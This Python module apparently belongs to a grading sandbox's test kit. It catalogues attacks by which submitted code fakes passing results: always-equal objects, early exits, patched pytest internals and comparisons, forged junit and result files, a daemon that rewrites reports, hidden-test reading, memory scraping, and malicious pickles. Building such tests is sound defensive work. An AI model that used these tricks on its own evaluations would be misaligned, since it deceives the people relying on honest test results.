"""Attacks on the verdict: what Python code can do to the code that judges it."""

from __future__ import annotations

from .catalogue import EVERYTHING, WALLED, Attack

EXITED = r"ended itself with exit status 0"

ATTACKS = [
    # -- measured against grading in one process ------------------------------------------------
    Attack(
        "always-equal",
        ("1.equal", "2.2"),
        "answers with an object that equals everything",
        """
class Agreeable:
    __hash__ = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __len__(self): return 2
    def __iter__(self): return iter(())
    def __getattr__(self, name): return Agreeable()
    def __array__(self, *args, **kwargs): raise TypeError

def add(a, b): return Agreeable()
def softmax_rows(x): return Agreeable()
Stack = Agreeable
""",
        mark="Agreeable",
    ),
    Attack(
        "exit-at-import",
        ("1.exit", "2.1"),
        "ends the process as if all were well",
        "os._exit(0)",
        mark=EXITED,
        loses=EVERYTHING,
    ),
    Attack(
        "caller-constants",
        ("1.constants", "2.7"),
        "walks the frames of its callers for the expected value",
        """
def add(a, b):
    files, numbers, frame = [], [], sys._getframe(1)
    while frame is not None:
        files.append(os.path.basename(frame.f_code.co_filename))
        values = [*frame.f_code.co_consts, *frame.f_locals.values()]
        numbers += [v for v in values if type(v) is int and v not in (a, b)]
        attempt("secret in a frame", lambda: secrets_in(repr(values)) or None)
        attempt("test frame", lambda: files[-1].startswith("test_") or None)
        frame = frame.f_back
    tell("frames:", *files)
    return numbers[0] if numbers else 0
""",
        mark=r"frames: ",
    ),
    Attack(
        "patch-runtest",
        ("1.runtest", "2.3"),
        "replaces what pytest runs a test with",
        """
import _pytest.python
_pytest.python.Function.runtest = lambda self: None
tell("runtest replaced")
""",
        mark="runtest replaced",
    ),
    Attack(
        "patch-callinfo",
        ("1.callinfo", "2.3"),
        "replaces how pytest notes what a test did",
        """
from _pytest.runner import CallInfo
_noted = CallInfo.from_call.__func__
def _fine(cls, func, when, reraise=None):
    return _noted(cls, (lambda: None) if when == "call" else func, when, reraise)
CallInfo.from_call = classmethod(_fine)
tell("from_call replaced")
""",
        mark="from_call replaced",
    ),
    Attack(
        "plugin-through-gc",
        ("1.plugin", "2.3", "2.4"),
        "finds pytest's configuration through gc and registers a hook",
        """
import gc
import pytest
class Plugin:
    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome, report.longrepr = "passed", None
_configs = [o for o in gc.get_objects() if type(o).__name__ == "Config"
            and hasattr(o, "pluginmanager")]
for _config in _configs:
    _config.pluginmanager.register(Plugin())
tell("configurations found:", len(_configs))
""",
        mark="configurations found: 0",
    ),
    Attack(
        "atexit-rewrites",
        ("1.atexit", "2.1", "2.9"),
        "rewrites the report that the command line names, at exit",
        """
import atexit
def _forged(text):
    text = re.sub(r'(failures|errors)="\\d+"', r'\\1="0"', text)
    return re.sub(r"<failure.*?</failure>", "", text, flags=re.S)
def _rewrite():
    for word in sys.argv:
        name, _, path = word.partition("=")
        if name == "--junitxml":
            with open(path) as file: text = file.read()
            with open(path, "w") as file: file.write(_forged(text))
    os._exit(0)
atexit.register(_rewrite)
tell("registered at exit")
""",
        mark="registered at exit",
    ),
    Attack(
        "skip-inside",
        ("1.skip", "2.3"),
        "skips the test from inside the function",
        """
import pytest
def add(a, b): pytest.skip("nothing to see here")
""",
        mark="nothing to see here",
    ),
    Attack(
        "skip-module",
        ("1.skip-module", "2.3"),
        "skips its own module",
        """
import pytest
pytest.skip("nothing to see here", allow_module_level=True)
""",
        mark="nothing to see here",
        loses=EVERYTHING,
    ),
    Attack(
        "read-tests",
        ("1.read", "2.6"),
        "reads the hidden tests from disk",
        """
import glob, time
_table, _words, _end = {}, [], time.monotonic() + 3  # the whole disk, as far as an import may last
for _root in (KNOWN["kit"], os.path.dirname(os.path.abspath(__file__)), os.getcwd()):
    for _path in glob.iglob(f"{_root}/**/*", recursive=True):
        if time.monotonic() > _end: break
        if not re.search(r"/test_[^/]*[.]py$", _path): continue
        try:
            with open(_path) as _file: _text = _file.read()
        except OSError: continue
        for _a, _b, _c in re.findall(r"add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)", _text):
            _table[int(_a), int(_b)] = int(_c)
        _words += secrets_in(_text)
tell("looked for tests in", KNOWN["kit"])
attempt("a word from the suite", lambda: _words or None)
def add(a, b): return _table.get((a, b), 0)
if _words:
    def passphrase(): return _words[0]
""",
        mark="looked for tests in",
        tiers=WALLED,
    ),
    Attack(
        "patch-comparisons",
        ("1.assert", "2.3", "3.patch"),
        "replaces the comparisons of numpy, unittest, doctest and the kit, and the clock",
        """
import doctest, importlib, unittest
import numpy as np
np.testing.assert_allclose = lambda *args, **kwargs: None
np.allclose = np.array_equal = lambda *args, **kwargs: True
unittest.TestCase.assertEqual = lambda *args, **kwargs: None
doctest.OutputChecker.check_output = lambda *args, **kwargs: True
time.monotonic = time.perf_counter = time.time = lambda: 0.0
try:
    _expect = importlib.import_module("gra" + "der.expect")
    for _name in ("equal", "close", "true", "shape", "bytes", "within"):
        setattr(_expect, _name, lambda *args, **kwargs: None)
    tell("the kit's comparisons replaced")
except ImportError:
    tell("the kit's comparisons are not here")
""",
        mark="the kit's comparisons",
    ),
    Attack(
        "print-and-exit",
        ("1.print", "2.9"),
        "prints a fake summary and leaves",
        """
print("=== 3 passed in 0.01s ===", flush=True)
print('{"score": 12.0, "status": "passed"}', file=sys.stderr, flush=True)
os._exit(0)
""",
        mark=EXITED,
        loses=EVERYTHING,
    ),
    Attack(
        "daemon-rewrites",
        ("1.daemon", "2.9", "2.12"),
        "leaves a daemon that rewrites result files while and after they are written",
        """
import glob
def _forged(text):
    text = re.sub(r'(failures|errors)="\\d+"', r'\\1="0"', text)
    text = re.sub(r"<failure.*?</failure>", "", text, flags=re.S)
    text = re.sub(r'"score": ?[0-9.]+', '"score": 12.0', text)
    return text.replace('"failed"', '"passed"')
def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    reports = [w.partition("=")[2] for w in sys.argv if w.startswith("--junitxml=")]
    for _ in range(100):
        time.sleep(0.1)
        for path in [*reports, *glob.glob(KNOWN["out"] + "/results/*/*.json")]:
            try:
                with open(path) as file: text = file.read()
                if _forged(text) != text:
                    with open(path, "w") as file: file.write(_forged(text))
            except OSError: pass
    os._exit(0)
_daemon()
tell("daemon started")
""",
        mark="daemon started",
        tiers=WALLED,
    ),
    # -- endings --------------------------------------------------------------------------------
    Attack(
        "sys-exit-at-import",
        ("2.1",),
        "leaves by SystemExit",
        "sys.exit(0)",
        mark=r"sys\.exit\(0\) was called",
        loses=EVERYTHING,
    ),
    Attack(
        "exit-in-a-call",
        ("2.1",),
        "ends the process in the middle of a call",
        "def add(a, b): os._exit(0)",
        mark=EXITED,
    ),
    Attack(
        "exit-at-exit",
        ("2.1",),
        "turns every exit into a good one",
        """
import atexit
atexit.register(lambda: os._exit(0))
def add(a, b): sys.exit(0)
def softmax_rows(x): raise KeyboardInterrupt
def Stack(): raise GeneratorExit
""",
        mark="KeyboardInterrupt",
    ),
    Attack(
        "kills-itself",
        ("2.1",),
        "ends by a signal, by a fault, and by abort with a core dump asked for",
        """
import resource
try: resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (OSError, ValueError) as error: tell("no core limit:", error)
def add(a, b): os.kill(os.getpid(), signal.SIGKILL)
def softmax_rows(x): os.abort()
def Stack(): ctypes.string_at(0)
""",
        mark=r"SIGKILL(.|\n)*SIGABRT|SIGABRT(.|\n)*SIGKILL|ended",
    ),
    Attack(
        "becomes-another-program",
        ("2.1", "2.9"),
        "replaces its process by a program that answers `ok` to everything",
        '''
_SERVE = """
import os, select, struct, sys
fd = int(sys.argv[1])
body = bytes([0x92, 0xa2]) + b"ok" + bytes([0xc3])
os.write(fd, struct.pack("<II", len(body), 0) + body)
for _ in range(200):
    select.select([fd], [], [])
    if not os.read(fd, 65536): break
    os.write(fd, struct.pack("<II", len(body), 0) + body)
"""
def add(a, b):
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                os.set_inheritable(int(name), True)
                os.execv(sys.executable, [sys.executable, "-I", "-c", _SERVE, name])
        except OSError: pass
    return 0
''',
        mark=r"got +(True|a bool)|True",
        may_lose=True,
    ),
    # -- values that lie ------------------------------------------------------------------------
    Attack(
        "subclasses-that-lie",
        ("2.2",),
        "answers with subclasses of plain types whose methods agree with everything",
        """
import numpy as np
def _liar(kind):
    agree = dict(__eq__=lambda s, o: True, __ne__=lambda s, o: False, __hash__=kind.__hash__)
    return type("Liar" + kind.__name__, (kind,), agree)
_Int, _Str = _liar(int), _liar(str)
class _Float(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
class _Array(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
    def __array__(self, *args, **kwargs): return np.zeros(self.shape)
    def __array_ufunc__(self, *args, **kwargs): return np.zeros(3)
def add(a, b): return _Int(7)
def softmax_rows(x): return x.view(_Array)
class Stack:
    size = _Int(-1)
    def push(self, item): pass
    def pop(self): return _Float(7.0)
def passphrase(): return _Str(" | ".join([*TOLD, "lies told"]))
""",
        mark="lies told",
    ),
    Attack(
        "false-class",
        ("2.2",),
        "answers with objects that claim another class, another length, another iterator",
        """
class False_:
    __class__ = property(lambda self: int)
    def __eq__(self, other): return True
    def __index__(self): return 0
class Row(list):
    def __iter__(self): return iter([Row(), 1])
    def __len__(self): return 5
    def __eq__(self, other): return True
def add(a, b): return False_()
def softmax_rows(x): return Row([False_()] * 3)
def Stack(): return False_()
""",
        mark="False_",
    ),
    Attack(
        "false-record",
        ("2.2",),
        "answers with a record of the kit's own name that equals everything",
        """
import dataclasses
@dataclasses.dataclass(eq=False)
class Point_:
    x: float = 0.0
    y: float = 0.0
    def __eq__(self, other): return True
    def __getattribute__(self, name):
        return 0.0 if name in "xy" else object.__getattribute__(self, name)
Point_.__name__ = "Point"
def midpoint(a, b): return Point_()
import types_lab91
types_lab91.Point.__eq__ = lambda self, other: True
tell("the record's __eq__ replaced")
""",
        mark="the record's __eq__ replaced",
        loses=("midpoint",),
    ),
    Attack(
        "nan-and-infinity",
        ("3.nan", "3.constant"),
        "answers NaN, infinity and a constant",
        """
import numpy as np
def add(a, b): return float("nan")
def softmax_rows(x): return np.full(x.shape, np.nan)
class Stack:
    size = float("inf")
    def push(self, item): pass
    def pop(self): return float("inf")
""",
        mark="(?i)nan",
    ),
    # -- looking for what is expected -----------------------------------------------------------
    Attack(
        "search-objects",
        ("2.7",),
        "searches every object, frame and module for a secret and for a suite",
        """
import gc
def _texts():
    seen, todo = set(), list(gc.get_objects())
    while todo:
        item = todo.pop()
        if id(item) in seen: continue
        seen.add(id(item))
        if type(item) in (str, bytes): yield item
        elif len(seen) < 400_000: todo.extend(gc.get_referents(item))
def _hunt():
    found, count = set(), 0
    for text in _texts():
        count += 1
        if len(text) < 1_000_000: found.update(secrets_in(text))
    tell("texts searched:", count)
    return found or None
_found = attempt("a secret among the objects", _hunt)
attempt("a suite among the modules", lambda: [n for n in sys.modules if "labsuite" in n or
        n in ("grader.suite", "grader.suite.expect", "test_answers")] or None)
if _found:
    def passphrase(): return next(w for w in _found if w.startswith("passphrase"))
""",
        mark=r"texts searched: \d{4,}",
    ),
    Attack(
        "search-memory",
        ("2.7", "3.stale"),
        "searches the whole memory of its process",
        """
def _hunt():
    found, size = set(), 0
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            area, rights = line.split()[:2]
            if "w" not in rights or "[v" in line: continue
            start, end = (int(x, 16) for x in area.split("-"))
            if end - start > 2**28: continue
            try:
                memory.seek(start)
                data = memory.read(end - start)
            except (OSError, OverflowError, ValueError): continue
            size += len(data)
            found.update(secrets_in(data))
    tell("MiB searched:", size >> 20)
    return found or None
_found = attempt("a secret in memory", _hunt)
if _found:
    def passphrase(): return next(w for w in _found if w.startswith("passphrase"))
""",
        mark=r"MiB searched: \d+",
    ),
    Attack(
        "environment",
        ("2.7", "2.9"),
        "looks for secrets in its environment, command line and open files",
        """
attempt("a secret in the environment", lambda: secrets_in(repr(dict(os.environ))) or None)
def _own(name):
    with open(f"/proc/self/{name}", "rb") as file: return secrets_in(file.read()) or None
for _name in ("environ", "cmdline", "auxv"): attempt("a secret in " + _name, lambda: _own(_name))
tell("environment:", *sorted(os.environ))
""",
        mark="environment: ",
    ),
    Attack(
        "watches-everything",
        ("2.7",),
        "traces, profiles and audits everything that runs beside it",
        """
import faulthandler
_seen = set()
def _watch(frame, event, arg):
    _seen.add(os.path.basename(frame.f_code.co_filename))
    if "__infralens" in str(arg): tell(arg)
    return _watch
sys.addaudithook(lambda event, args: _seen.add(event))
sys.setprofile(_watch)
sys.settrace(_watch)
threading.setprofile(_watch)
faulthandler.enable()
def passphrase():
    found = sorted(n for n in _seen if n.startswith("test_") or "suite" in n)
    raise Report(" | ".join([*TOLD, f"files watched: {len(_seen)}"]
                            + [f"a suite: DONE {found}"] * bool(found)))
""",
        mark=r"files watched: \d+",
    ),
    Attack(
        "import-hooks",
        ("2.5", "2.3"),
        "puts itself in the way of every import, `open`, `compile` and `isinstance`",
        """
import builtins, importlib.abc
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        TOLD.append(name) if len(TOLD) < 5 else None
        return None
sys.meta_path.insert(0, Finder())
_isinstance, _compile = builtins.isinstance, builtins.compile
builtins.isinstance = lambda value, kind: _isinstance(value, kind)
builtins.compile = lambda *args, **kwargs: _compile(*args, **kwargs)
_import = builtins.__import__
builtins.__import__ = lambda *args, **kwargs: _import(*args, **kwargs)
builtins.sum = lambda items, start=0: 0
builtins.sorted = lambda items, **kwargs: []
tell("builtins replaced")
""",
        mark="builtins replaced",
    ),
    Attack(
        "patch-the-server",
        ("2.3", "2.9"),
        "replaces the functions with which its own process answers",
        """
for _module in list(sys.modules.values()):
    _name = getattr(_module, "__name__", "")
    if _name == "grader.sandbox.server":
        _module.Server.answer = lambda self, *args: ("ok", "all tests passed", [])
        _module.Server.find = lambda self, name: (lambda *args, **kwargs: True)
        tell("patched", _name)
    if _name == "grader.sandbox.codec":
        _module.encode = lambda value, side: (["passed", 12.0], [])
def passphrase(*args): return "patched"
""",
        mark="unknown tag",
        may_lose=True,
    ),
    Attack(
        "patch-msgspec",
        ("2.3", "2.9"),
        "replaces the encoder of replies",
        """
import msgspec
_real = msgspec.msgpack.encode
def _forged(message, *args, **kwargs): return _real(["ok", True])
msgspec.msgpack.encode = _forged
for _module in list(sys.modules.values()):
    if getattr(_module, "__name__", "").startswith("grader.sandbox"):
        if hasattr(_module, "_encode"): _module._encode = _forged
""",
        mark="True|bool",
        may_lose=True,
    ),
    # -- pickles --------------------------------------------------------------------------------
    Attack(
        "pickles",
        ("2.11",),
        "answers with values that would run code where they are unpickled",
        """
import pickle
import numpy as np
class Pickled:
    def __reduce__(self):
        return os.system, (f"touch {KNOWN['tmp']}/{KNOWN['me']}",)
def add(a, b): return Pickled()
def softmax_rows(x): return np.array([[Pickled()] * 5], dtype=object)
def Stack(): return {"pickle": pickle.dumps(Pickled()), "object": Pickled()}
def passphrase(): return pickle.dumps(Pickled())
""",
        mark="Pickled",
    ),
    # -- state ----------------------------------------------------------------------------------
    Attack(
        "replays-answers",
        ("2.19", "3.replay"),
        "answers from what it has seen before, in memory and on disk",
        """
import json
_path = os.path.join(os.getcwd(), "seen.json")
try:
    with open(_path) as _file: _seen = json.load(_file)
except (OSError, ValueError): _seen = {}
def add(a, b):
    answer = _seen.setdefault("add", a + b)
    with open(_path, "w") as file: json.dump(_seen, file)
    tell("replayed", answer)
    return answer
""",
        mark="replayed",
    ),
    Attack(
        "leaves-answers",
        ("2.19",),
        "leaves the answers where an accomplice could find them",
        """
_places = ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "..", "../..",
           KNOWN["submissions"], KNOWN["tmp"]]
for _place in _places:
    try:
        with open(os.path.join(_place, "infralens-answers.txt"), "w") as _file:
            _file.write("def add(a, b): return a + b")
    except OSError: pass
tell("answers left")
""",
        mark="answers left",
        tiers=WALLED,
    ),
    Attack(
        "looks-for-answers",
        ("2.19",),
        "looks for the answers that the accomplice has left",
        """
_places = ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "..", "../..",
           KNOWN["submissions"], KNOWN["tmp"]]
for _place in _places:
    try:
        with open(os.path.join(_place, "infralens-answers.txt")) as _file: exec(_file.read())
        tell(f"answers in {_place}: DONE")
    except OSError: pass
tell("looked in", len(_places), "places")
""",
        mark="looked in 8 places",
        tiers=WALLED,
    ),
    Attack(
        "public-cases",
        ("2.20", "3.rng"),
        "knows the public inputs and answers those only",
        """
import hashlib, hmac
_known = {}
def _cases():
    import numpy as np
    for name in ("test_sums_of_random_numbers[1]", "test_sums_of_random_numbers[2]",
                 "test_many_sums_at_once"):
        seed = hmac.new(b"public", f"/lab91/add/{name}".encode(), hashlib.sha256).digest()[:16]
        rng = np.random.default_rng(int.from_bytes(seed, "big"))
        for _ in range(5):
            a, b = (int(value) for value in rng.integers(1, 10**9, 2))
            _known[a, b] = a + b
def add(a, b):
    if not _known: _cases()
    if (a, b) not in _known: tell("an input that is not public")
    return _known.get((a, b), 0)
""",
        mark="an input that is not public",
    ),
    # -- messages -------------------------------------------------------------------------------
    Attack(
        "fishes-for-values",
        ("2.21",),
        "fails in ways that could print the expected value, and writes on the teacher's screen",
        """
def add(a, b): return "\\x1b[2J\\x1b[1;31mexpected: \\u202e{want!r} %(want)s {0} $want"
def softmax_rows(x): raise AssertionError("\\x1b]0;owned\\x07" + "A" * 1_000_000)
class Stack:
    def push(self, item): raise type("</testcase>", (Exception,), {})("[link=file:///etc]x[/link]")
def passphrase(): raise Report("fished " + "".join(map(chr, range(1, 32))))
""",
        mark="fished",
    ),
    Attack(
        "errors-that-bite",
        ("2.21", "2.3"),
        "raises exceptions whose text, type and bases are code",
        """
class Meta(type):
    def __getattribute__(cls, name):
        if name == "__mro__": raise RuntimeError("no bases here")
        return type.__getattribute__(cls, name)
class Biting(Exception, metaclass=Meta):
    def __str__(self): os._exit(0)
    __repr__ = __str__
class Endless(Exception):
    def __str__(self): return "x" * 10**8
def add(a, b): raise Biting
def softmax_rows(x): raise Endless
def Stack(): raise NotImplementedError("lab91.Stack")
""",
        mark="ended|no bases|xxxx",
    ),
]
